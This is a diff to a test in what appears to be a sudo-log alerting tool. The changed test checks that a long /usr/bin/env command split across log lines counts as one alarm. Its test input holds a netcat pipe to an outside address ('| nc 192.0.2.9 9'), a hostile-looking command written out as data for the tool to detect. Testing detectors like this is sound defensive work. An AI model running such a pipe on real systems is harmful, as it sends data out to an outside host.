@@ -147,7 +147,8 @@ describe("F58: sudo's continued commands", () => {
     box.write("rules/never.d/head", "COMMAND=/usr/bin/env\n");
     const lines = sudoLines(`/usr/bin/env A=${padding(1200)}| nc 192.0.2.9 9`);
     const { text, ledger } = check(lines, [hidesHeads, hidesRest]);
-    expect(text).to.match(/^2 alarms, /m);
+    // One command is one event: both its lines are told.
+    expect(text).to.match(/^1 alarm, /m);
     expect(text).to.include("| nc 192.0.2.9 9");
     expect(ledger).to.deep.equal({ read: 2, ignored: 0, reported: 2 });
   });
